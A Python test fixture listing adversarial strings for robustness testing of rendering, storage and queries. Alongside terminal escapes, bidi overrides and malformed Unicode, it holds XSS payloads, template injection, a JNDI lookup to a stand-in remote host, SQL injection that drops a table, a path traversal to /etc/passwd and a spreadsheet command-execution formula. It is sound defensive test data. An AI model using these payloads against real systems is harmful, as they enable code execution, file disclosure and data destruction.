"""Strings that act on whoever shows, stores or queries them."""

from __future__ import annotations

from typing import Final

STRINGS: Final[tuple[str, ...]] = (
    # terminals
    "\x1b[2J", "\x1b]0;owned\x07", "\x1b[31mred", "\x1b]8;;http://x.example\x07link\x1b]8;;\x07",
    "\x1bc", "\x9b2J",
    "\x9d0;owned\x9c", "a\rb", "a\bb", "\x07", "\x7f", "\x0e\x0f", "\x05", "\x18\x1a",
    # controls
    "\x00", "a\x00b", "\x01\x02\x03", "\x1c\x1d\x1e\x1f", "\x0b\x0c", "\x80\x81\x8d", "\x85", "\n\n",
    "\r\nX-Evil: 1", "\t",
    # direction of print
    "\u202egnp.exe", "\u202dabc\u202c", "\u2066abc\u2069", "\u2067abc", "\u2068\u202a\u202b",
    "abc\u202e",
    # halves and no characters
    "\ud83d", "\ude00", "\ude00\ud83d", "a\ud800b", "\udfff\ud800", "\ufdd0", "\ufffe\uffff",
    "\ufeffbom", "\ufff9a\ufffab\ufffb",
    # lines that are none
    "a\u2028b", "a\u2029b",
    # marks
    "a" + "\u0301\u0316" * 60, "Z" + "\u0336" * 200,
    # markup of pages, templates, reports and consoles
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</title><b>", "<!--", "]]>",
    "&#27;[2J", "&amp;#27;[2J",
    "{{ 7*7 }}", "{% raw %}", "${jndi:ldap://x.example/a}", "[red]bold[/red]", "[/]",
    "[link=http://x.example]x[/link]",
    "%s %n %(a)s", "{0} {a.__class__}",
    # queries, labels, files, tables
    "'; DROP TABLE articles; --", '" OR 1=1 --', "a\\", "\\x1b[2J", "\\u001b[2J", '"} 1\n# HELP x',
    "../../etc/passwd", "=cmd|' /C calc'!A0",
)  # fmt: skip
"""Each is put into every field of a page, an envelope and a record."""
